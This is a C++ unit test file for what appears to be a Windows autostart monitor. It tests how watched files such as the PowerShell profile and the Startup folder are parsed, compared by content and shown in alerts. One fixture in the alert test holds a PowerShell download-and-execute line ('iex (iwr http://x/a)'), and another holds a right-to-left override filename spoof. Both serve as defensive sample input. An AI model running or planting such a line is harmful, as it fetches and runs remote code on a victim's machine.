// The file points of the autostart table: their rows, what changes a watched file, and what an
// alert shows of its content.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "monitors/AutostartPoints.h"
#include "monitors/FilePoints.h"

namespace sentrel {
namespace {

TEST(FilePoints, RowsNameAKnownFolderAndAPathBelowIt) {
    const std::string table =
        "file  | Documents\\WindowsPowerShell\\profile.ps1 | | your PowerShell profile\n"
        "files | program files\\PowerShell\\7\\ | | a folder below a name with a blank\n"
        "files | Startup | | your Startup folder\n"
        "file  | Documents2\\profile.ps1 | | no known folder\n"
        "file  | AppData\\..\\Local\\x.ps1 | | climbing out\n"
        "file  | System | | a folder on a file row\n"
        "file  | Startup | | the Startup folder on a file row\n";
    std::vector<std::string> log;
    const auto points = ParseAutostartPoints(table, [&](const std::string& line) { log.push_back(line); });
    ASSERT_EQ(points.size(), 3u);
    EXPECT_EQ(points[0].kind, AutostartPointKind::OneFile);
    EXPECT_EQ(AutostartKindWord(points[0].kind), "file");
    EXPECT_EQ(points[2].kind, AutostartPointKind::Files);
    ASSERT_EQ(log.size(), 4u);
    EXPECT_NE(log[0].find("line 4 skipped: its place does not begin with a known folder"), std::string::npos) << log[0];
    EXPECT_NE(log[2].find("line 6 skipped: it names a folder, not a file"), std::string::npos) << log[2];

    const auto place = FilePlaceOf(points[1].path);
    ASSERT_TRUE(place);
    EXPECT_EQ(place->folder, platform::KnownFolder::ProgramFiles);
    EXPECT_EQ(place->relative, "PowerShell\\7");
    EXPECT_EQ(FilePlaceOf("ProgramData\\x")->folder, platform::KnownFolder::ProgramData);
    EXPECT_TRUE(IsSystemPlace(*FilePlaceOf("System\\sethc.exe")));
    EXPECT_FALSE(IsSystemPlace(*place));
}

TEST(FilePoints, AWatchedFileChangesWithItsContentNotItsTime) {
    const std::string a(64, 'a'), b(64, 'b');
    const auto entry = [](const WatchedFileState& state) {
        return AutostartEntry{"C:\\p\\profile.ps1", "", WatchedFileRaw(state)};
    };
    const std::vector<AutostartEntry> known = {entry({10, 100, a})};
    // Touched: another time, the same content.
    EXPECT_TRUE(CompareAutostartEntries(AutostartPointKind::OneFile, known, {entry({10, 200, a})}).empty());
    const auto changed = CompareAutostartEntries(AutostartPointKind::OneFile, known, {entry({10, 100, b})});
    ASSERT_EQ(changed.size(), 1u);
    EXPECT_EQ(changed[0].change, AutostartChange::Changed);
    EXPECT_EQ(WatchedFileOfRaw(changed[0].before->raw)->sha256, a);
    // Gone: nothing; new: added.
    EXPECT_TRUE(CompareAutostartEntries(AutostartPointKind::OneFile, known, {}).empty());
    EXPECT_EQ(CompareAutostartEntries(AutostartPointKind::OneFile, {}, known).at(0).change, AutostartChange::Added);
    // Too large to be read: size and time stand for the content.
    EXPECT_EQ(CompareAutostartEntries(AutostartPointKind::OneFile, {entry({10, 100, ""})}, {entry({10, 200, ""})}).size(),
              1u);
    for (const char* bad : {"", "10 100", "x 100 " , "10 100 abc"}) EXPECT_FALSE(WatchedFileOfRaw(bad)) << bad;
}

TEST(FilePoints, AnAlertShowsAFewBoundedLinesOfText) {
    EXPECT_EQ(FirstLinesShown("\xEF\xBB\xBFiex (iwr http://x/a)\r\n\r\n\t$a = 1\x1B[2J\r\nb\nc\nd\n"),
              "iex (iwr http://x/a)\n $a = 1[2J\nb\nc");
    const std::string utf16("\xFF\xFEg\0o\0\r\0\n\0!\0", 12);
    EXPECT_EQ(FirstLinesShown(utf16), "go\n!");
    const std::string shown = FirstLinesShown(std::string(500, 'x') + "\n\xE2\x80\xAEgnp.exe");
    EXPECT_EQ(shown, std::string(kShownLineCharacters - 1, 'x') + "\xE2\x80\xA6\n\xEF\xBF\xBDgnp.exe");
    EXPECT_EQ(FirstLinesShown(std::string("PK\x03\x04\0\0", 6)), "");
}

}  // namespace
}  // namespace sentrel
